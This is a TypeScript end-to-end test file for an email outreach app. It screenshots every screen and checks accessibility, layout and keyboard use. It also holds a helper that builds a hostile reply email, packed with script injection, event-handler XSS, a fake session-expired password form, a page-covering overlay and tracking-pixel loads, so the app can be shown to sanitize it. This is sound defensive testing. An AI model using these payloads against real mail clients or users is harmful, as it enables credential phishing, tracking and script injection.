import { appendFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Campaign } from '../../shared/schemas/campaign.ts';
import type { Page as List } from '../../shared/schemas/common.ts';
import type { Reply } from '../../shared/schemas/reply.ts';
import type { Sequence } from '../../shared/schemas/sequence.ts';
import { chromiumPath, openBrowser, resultsDir, startApp, until, type App, type LeftMail } from '../support/app.ts';
import { findings } from '../support/axe.ts';
import { pages } from '../support/pages.ts';

const shots = join(resultsDir, 'screens');
const dataDir = mkdtempSync(join(tmpdir(), 'homing-screens-'));

/** Waits until a screen has its data and nothing moves any more. */
async function settled(page: Page): Promise<void> {
  await until(
    'the screen has its data',
    () => page.getByRole('status', { name: 'Loading' }).count(),
    (count) => count === 0,
    15_000,
  );
  await page.waitForTimeout(450);
}

describe.skipIf(chromiumPath === null)('every screen', () => {
  let app: App;
  let browser: Browser;
  let page: Page;
  let problems: string[];
  let campaign: Campaign;
  let sequence: Sequence;
  let tracker: Server;
  const fetched: string[] = [];

  beforeAll(async () => {
    mkdirSync(shots, { recursive: true });
    tracker = createServer((request, response) => {
      fetched.push(request.url ?? '');
      response.end();
    });
    await new Promise<void>((resolve) => tracker.listen(0, '127.0.0.1', resolve));

    app = await startApp({ practice: true, dataDir });
    const first = async <T>(path: string) => {
      const [item] = (
        await until(
          path,
          () => app.api<List<T>>('GET', path),
          ({ items }) => items.length > 0,
          20_000,
        )
      ).items;
      return item as T;
    };
    campaign = await first<Campaign>('/campaigns');
    await app.api('POST', `/campaigns/${campaign.id}/launch`);
    await app.api('POST', '/workspace/time-lapse', { factor: 43_200 });
    await until(
      'replies came',
      () => app.api<List<Reply>>('GET', '/replies?class=human'),
      ({ total }) => (total ?? 0) >= 3,
      60_000,
    );
    await app.api('POST', '/workspace/time-lapse', { factor: 1 });
    sequence = await first<Sequence>('/email-sequences');

    // A hostile answer lies in the mailbox when the app starts again.
    const mail = app.left().find(({ to }) => to.endsWith('.example.com') && !to.startsWith('robin@'));
    await app.stop();
    deliver(hostile(mail as LeftMail, `http://127.0.0.1:${(tracker.address() as AddressInfo).port}`));
    app = await startApp({ practice: true, dataDir });
    ({ browser, page, problems } = await openBrowser(app));
    await pages(page).practiceBanner().waitFor();
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    expect(await app?.stop()).toBe(0);
    tracker.close();
    rmSync(dataDir, { recursive: true, force: true });
  });

  function deliver(source: string): void {
    const file = join(dataDir, 'practice', 'simulated', 'mail', encodeURIComponent('robin@homing.example.com'), 'INBOX.jsonl');
    const last = readFileSync(file, 'utf8').trimEnd().split('\n').at(-1) ?? '{"uid":0,"receivedAt":0}';
    const { uid, receivedAt } = JSON.parse(last) as { uid: number; receivedAt: number };
    appendFileSync(file, `${JSON.stringify({ uid: uid + 1, receivedAt: receivedAt + 1000, source })}\n`);
  }

  async function show(path: string): Promise<void> {
    await page.goto(`${app.url}/#${path}`);
    await settled(page);
  }

  it('shows a hostile mail without running or loading anything of it', async () => {
    const reply = await until(
      'the mail was read',
      async () => (await app.api<List<Reply>>('GET', '/replies?limit=200')).items.find((each) => each.subject.includes('Hostile')),
      (found) => found !== undefined,
      20_000,
    );
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    await show(`/inbox?show=all&reply=${reply?.id ?? ''}`);
    const conversation = pages(page).inbox.conversation();
    await conversation.getByText('As designed', { exact: true }).last().click();
    const frame = page.frameLocator('iframe').last();
    await frame.getByText('the harmless part').waitFor();
    await page.waitForTimeout(500);
    await page.screenshot({ path: join(shots, 'hostile.png') });
    expect(await page.evaluate('window.hacked ?? document.querySelector("iframe").contentWindow.hacked ?? null')).toBe(null);
    expect(page.url()).toContain(app.url);
    expect(await frame.locator('script, form, input, button, iframe, object, embed, svg, style:not(head style), link, meta:not(head meta)').count()).toBe(0);
    expect(await frame.locator('[onerror], [onclick], [onload], [href^="javascript:" i], [src^="http"]').count()).toBe(0);
    // Nothing of the mail covers the app.
    expect(await page.locator('text=Your session has expired').count()).toBe(0);
    expect(requests.filter((url) => !url.startsWith(app.url) && !url.startsWith('data:') && !url.startsWith('about:') && !url.startsWith('blob:'))).toEqual([]);
    expect(fetched).toEqual([]);
    expect(problems).toEqual([]);
  }, 60_000);

  /** The address of each screen, with something on it. */
  async function screensFor(name: string): Promise<Record<string, string>> {
    const { items } = await app.api<List<Reply>>('GET', '/replies?class=human');
    const contacts = await app.api<List<{ id: string }>>('GET', `/subscribers?q=${encodeURIComponent(items[0]?.fromAddress ?? '')}`);
    const mails = await app.api<List<{ id: string }>>('GET', '/deliveries?state=sent&limit=1');
    const template = await app.api<{ id: string }>('POST', '/templates', {
      name: `Thanks ${name}`,
      subject: '{Thanks|Thank you}',
      html: '<p>Hi {{ first_name }},</p>',
    });
    const mailboxes = await app.api<List<{ id: string }>>('GET', '/mailboxes');
    return {
      dashboard: '/',
      inbox: '/inbox',
      'inbox-open': `/inbox?reply=${items[0]?.id ?? ''}`,
      tasks: '/tasks',
      review: '/review',
      campaigns: '/campaigns',
      'campaign-people': `/campaigns/${campaign.id}`,
      'campaign-mails': `/campaigns/${campaign.id}?tab=mails`,
      'campaign-replies': `/campaigns/${campaign.id}?tab=replies`,
      'campaign-settings': `/campaigns/${campaign.id}?tab=settings`,
      sequences: '/sequences',
      'sequence-editor': `/sequences/${sequence.id}`,
      comparison: '/comparison',
      templates: '/templates',
      'template-editor': `/templates/${template.id}`,
      snippets: '/templates?kind=snippet',
      contacts: '/contacts',
      'contact-drawer': `/contacts?contact=${contacts.items[0]?.id ?? ''}`,
      'contact-page': `/contacts/${contacts.items[0]?.id ?? ''}`,
      suppressions: '/contacts?tab=suppressions',
      import: '/contacts/import',
      activity: '/activity',
      'activity-detail': `/activity?delivery=${mails.items[0]?.id ?? ''}`,
      analytics: '/analytics',
      'analytics-campaign': `/analytics?campaignId=${campaign.id}&days=90`,
      mailboxes: '/mailboxes',
      'mailbox-drawer': `/mailboxes?edit=${mailboxes.items[0]?.id ?? ''}`,
      settings: '/settings',
      'settings-models': '/settings/models',
      'settings-model-server': '/settings/models?edit=new',
    };
  }

  /** Opens every screen, takes its picture and says what is wrong with it. */
  async function walk(name: string): Promise<string[]> {
    const wrong: string[] = [];
    for (const [screen, path] of Object.entries(await screensFor(name))) {
      await show(path);
      await page.screenshot({ path: join(shots, `${screen}-${name}.png`) });
      const overflow = await page.evaluate<number>('document.documentElement.scrollWidth - innerWidth');
      if (overflow > 0) wrong.push(`${screen}: ${overflow} px too wide`);
      wrong.push(...(await findings(page)).map((finding) => `${screen}: ${finding}`));
      wrong.push(...problems.splice(0).map((problem) => `${screen}: ${problem}`));
    }
    return wrong;
  }

  for (const scheme of ['light', 'dark'] as const) {
    for (const [width, height] of [
      [1280, 800],
      [1920, 1080],
    ] as const) {
      it(`looks right in ${scheme} at ${width}: no errors, nothing cut off sideways, nothing serious for axe`, async () => {
        await page.emulateMedia({ colorScheme: scheme });
        await page.setViewportSize({ width, height });
        expect(await walk(`${scheme}-${width}`)).toEqual([]);
      }, 180_000);
    }
  }

  it('stands right from right to left', async () => {
    await page.evaluate("localStorage.setItem('homing.language', 'mirrored')");
    await page.reload();
    await show('/');
    expect(await page.locator('html').getAttribute('dir')).toBe('rtl');
    expect(await walk('mirrored')).toEqual([]);
    await page.evaluate("localStorage.setItem('homing.language', 'system')");
    await page.reload();
  }, 240_000);

  it('finds a person, goes anywhere and shows the shortcuts by keyboard alone', async () => {
    const { items } = await app.api<List<{ id: string; email: string; lastName: string }>>('GET', '/subscribers?limit=1');
    const [person] = items;
    await show('/');
    await page.keyboard.press('Control+k');
    const palette = page.getByRole('dialog', { name: 'Find or do' });
    await palette.waitFor();
    await page.keyboard.type(person?.email ?? '');
    await palette.getByRole('option', { name: person?.lastName ?? '' }).waitFor();
    expect(await findings(page)).toEqual([]);
    await page.keyboard.press('Enter');
    await page.waitForURL(`**/#/contacts/${person?.id ?? ''}`);
    await page.keyboard.press('Escape');
    await palette.waitFor({ state: 'detached' });
    await page.getByRole('dialog').waitFor({ state: 'detached' });
    await page.keyboard.press('g');
    await page.keyboard.press('s');
    await page.getByRole('heading', { name: 'Sequences', level: 1 }).waitFor();
    await page.keyboard.press('/');
    await page.keyboard.type('g i');
    expect(await page.getByRole('searchbox', { name: 'Search sequences' }).inputValue()).toBe('g i');
    await page.getByRole('searchbox', { name: 'Search sequences' }).blur();
    await page.keyboard.press('?');
    await page.getByRole('dialog', { name: 'Keyboard shortcuts' }).waitFor();
    expect(await findings(page)).toEqual([]);
    await page.keyboard.press('Escape');
    expect(problems.splice(0)).toEqual([]);
  }, 60_000);

  it('keeps the unit of a wait open while the draft saves itself', async () => {
    const copy = await app.api<Sequence>('POST', `/email-sequences/${sequence.id}/duplicate`);
    await show(`/sequences/${copy.id}`);
    const card = page.getByRole('article', { name: 'Wait', exact: true }).first();
    await card.locator('[data-step-toggle]').click();
    await card.getByLabel('Wait for').fill('5');
    await card
      .getByRole('combobox', { name: 'Unit' })
      .or(card.getByRole('button', { name: 'Unit' }))
      .or(card.getByRole('textbox', { name: 'Unit' }))
      .first()
      .click();
    await page.getByRole('option', { name: 'weeks', exact: true }).waitFor();
    await until(
      'the draft is saved',
      () => app.api<Sequence>('GET', `/email-sequences/${copy.id}`),
      ({ draft }) => draft.steps.some((step) => step.type === 'wait' && step.duration === 'P5D'),
      10_000,
    );
    await page.waitForTimeout(800);
    await page.getByRole('option', { name: 'weeks', exact: true }).click({ timeout: 2000 });
    await page.getByText('Wait 5 weeks').first().waitFor();
  }, 60_000);

  it('shows what another window changed', async () => {
    await show('/sequences');
    const made = await app.api<Sequence>('POST', `/email-sequences/${sequence.id}/duplicate`);
    await app.api('PUT', `/email-sequences/${made.id}`, { name: 'Renamed elsewhere' });
    await page.getByText('Renamed elsewhere').first().waitFor({ timeout: 5000 });
    await app.api('DELETE', `/email-sequences/${made.id}`);
    await page.getByText('Renamed elsewhere').first().waitFor({ state: 'detached', timeout: 5000 });
    expect(problems).toEqual([]);
  }, 60_000);
});

/** An answer to a mail that tries what hostile mails try. */
function hostile(mail: LeftMail, tracker: string): string {
  const html = `<html><head><style>body{position:fixed;inset:0;background:url(${tracker}/style)} @import url(${tracker}/import);</style><link rel="stylesheet" href="${tracker}/link"><meta http-equiv="refresh" content="0;url=${tracker}/refresh"><base href="${tracker}/"></head>
<body onload="window.hacked=1"><script>window.hacked=1;top.hacked=1;fetch('${tracker}/script')</script>
<p>the harmless part</p><img src="x" onerror="top.hacked=1"><img src="${tracker}/pixel.gif" width="1" height="1"><img srcset="${tracker}/srcset 2x">
<form action="${tracker}/form"><p>Your session has expired</p><input name="password" autofocus onfocus="top.hacked=1"><button>Log in</button></form>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:url('${tracker}/div') red;z-index:99999" onclick="top.hacked=1">cover</div>
<a href="javascript:top.hacked=1">a link</a><a href="${tracker}/link" ping="${tracker}/ping">another</a>
<svg onload="top.hacked=1"><image href="${tracker}/svg"/></svg><math><mi xlink:href="javascript:top.hacked=1">m</mi></math>
<iframe src="${tracker}/frame" srcdoc="<script>top.hacked=1</script>"></iframe><object data="${tracker}/object"></object><embed src="${tracker}/embed"><video poster="${tracker}/poster" src="${tracker}/video" autoplay></video>
<table background="${tracker}/background"><tr><td>cell</td></tr></table><noscript><p title="</noscript><img src=x onerror=top.hacked=1>"></noscript></body></html>`;
  return [
    `From: "Mallory <script>" <${mail.to}>`,
    'To: robin@homing.example.com',
    'Subject: Hostile <img src=x onerror=alert(1)>',
    `Message-ID: <hostile-${Date.now()}@example.com>`,
    `In-Reply-To: ${mail.messageId}`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/alternative; boundary="b"',
    '',
    '--b',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'the harmless part as text <script>top.hacked=1</script>',
    '--b',
    'Content-Type: text/html; charset=utf-8',
    '',
    html,
    '--b--',
    '',
  ].join('\r\n');
}
